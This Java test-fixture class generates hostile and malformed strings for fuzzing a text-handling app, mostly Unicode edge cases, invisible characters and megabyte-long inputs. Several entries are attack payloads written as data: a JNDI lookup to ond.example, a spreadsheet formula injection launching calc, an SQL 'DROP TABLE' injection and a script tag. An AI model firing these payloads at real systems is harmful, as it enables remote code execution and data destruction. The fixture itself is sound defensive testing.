package no.ildsjel;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Texts as nobody should write them and somebody will. */
public final class SomeTexts {
    private static final List<String> PIECES = List.of(
            "idé ",
            "pårørende ",
            "čáhci ",
            "\n",
            "\n\n",
            "\r\n",
            "\u2028",
            "   ",
            "<!channel>",
            "<!here|x>",
            "<@U1>",
            "<!subteam^S1>",
            "<http://ond.example|bank>",
            "<#C1>",
            "&lt;",
            ":+1:",
            "*fet*",
            "~strek~",
            "<at>Kari</at>",
            "<at id=\"0\">",
            "[bank](http://ond.example)",
            "![bilde](http://ond.example/x.png)",
            "<http://ond.example>",
            "&lt;at&gt;",
            "&amp;",
            "&#42;",
            "&",
            "<",
            ">",
            "|",
            "{{DATE(2026-11-21T09:00:00Z, SHORT)}}",
            "{{TIME(2026-11-21T09:00:00Z)}}",
            "{{{",
            "${name}",
            ":smile:",
            "**fet**",
            "_kursiv_",
            "~~strek~~",
            "`kode`",
            "```",
            "# tittel",
            "- punkt",
            "1. punkt",
            "1) punkt",
            "> sitat",
            "---",
            "===",
            "\\",
            "\\n",
            "\"",
            "'",
            ",",
            "%2C",
            "<b>html</b>",
            "<script>",
            "@everyone",
            "=cmd()",
            "${jndi:ldap://x}",
            "'; DROP TABLE ideas;--",
            "👩‍👩‍👧‍👦",
            "👍🏽",
            "🇳🇴",
            "e\u0301",
            "\u202e",
            "\u200d",
            "\u200b",
            "\u2066",
            "\ufe0f",
            "\u0007",
            "https://kommune.example/a?b=c&d=e",
            "%s",
            "{0}",
            "\t");

    private static final String WORDS = "Pårørende ringer fordi ingen har sagt når vi kommer. ";
    private static final int MEGABYTE = 1_000_000;

    private SomeTexts() {}

    /** What whoever wants to break something would send, each by a name that says what it is. */
    public static Map<String, String> hard() {
        var hard = new LinkedHashMap<String, String>();
        hard.put("nothing", "");
        hard.put("one character", "x");
        hard.put("3000 characters", of(3000, "å"));
        hard.put("3001 characters", of(3001, "å"));
        hard.put("40,000 characters", of(40_000, WORDS));
        hard.put("a megabyte of words", of(MEGABYTE, WORDS));
        hard.put("right to left", "\u202enetkøn rah mevh tev negnI");
        hard.put("families", "Vi er 👩‍👩‍👧‍👦 og 👨‍👩‍👧 på avdelingen");
        hard.put("spaces that nobody sees", "Ingen\u200bvet\u200bhvem\u200bsom har nøkkelen");
        hard.put("only what nobody sees", "\u200b\u200d\u2060\ufeff");
        hard.put("only signs", "👍🏽 … !!");
        hard.put("NUL", "Ingen vet\u0000 hvem som har nøkkelen");
        hard.put("halves of characters", "Ingen vet \ud83d hvem som \udc4d har nøkkelen");
        hard.put("a thousand marks", "Ingen vet hvem a" + of(1000, "\u0301") + " som har nøkkelen");
        hard.put("a channel", "<!channel> ingen vet hvem som har nøkkelen");
        hard.put("a mention", "<@U1> og @everyone vet hvem som har nøkkelen");
        hard.put("a formula", "=cmd()|' /C calc'!A0");
        hard.put("a lookup", "${jndi:ldap://ond.example/a} {0} %s {name}");
        hard.put("SQL", "'; DROP TABLE ideas; -- og så");
        hard.put("CRLF", "Første linje\r\nAndre linje\rTredje linje");
        hard.put("many letters", "æøå ÄÖÅ áđŋŧž čáhci gielda");
        return hard;
    }

    /** Where what takes longer for each character than for the one before would be noticed. */
    public static Map<String, String> megabytes() {
        var endless = new LinkedHashMap<String, String>();
        endless.put("a megabyte of one word", of(MEGABYTE, "a"));
        endless.put("a megabyte of figures", of(MEGABYTE, "1 2 3, 4.5 - "));
        endless.put("a megabyte of lines", of(MEGABYTE, "ord\n"));
        endless.put("a megabyte of labels", of(MEGABYTE, "Verdi: spart tid\n"));
        endless.put("a megabyte of questions", of(MEGABYTE, "Hva er det? "));
        endless.put("a megabyte of signs", of(MEGABYTE, "?!:.,;-–«»"));
        return endless;
    }

    private static String of(int length, String piece) {
        return piece.repeat(length / piece.length() + 1).substring(0, length);
    }

    /** Whole characters only; see {@link #dirty} for the rest. */
    public static String random(Random random) {
        return IntStream.range(0, random.nextInt(40))
                .mapToObj(i -> PIECES.get(random.nextInt(PIECES.size())))
                .collect(Collectors.joining());
    }

    /** With NUL, halves of characters, and sometimes very long. */
    public static String dirty(Random random) {
        String text = random(random) + List.of("", "\u0000", "\ud83d", "\udc4d").get(random.nextInt(4));
        return switch (random.nextInt(9)) {
            case 0 -> text.repeat(random.nextInt(60));
            case 1 -> text + "a\u0301".repeat(random.nextInt(2000)) + "\u0301".repeat(random.nextInt(8000));
            case 2 -> "<".repeat(random.nextInt(5000));
            case 3 -> "a\n".repeat(random.nextInt(3000));
            case 4 -> "\u0007\"\\👍".repeat(random.nextInt(3000));
            default -> text;
        };
    }
}
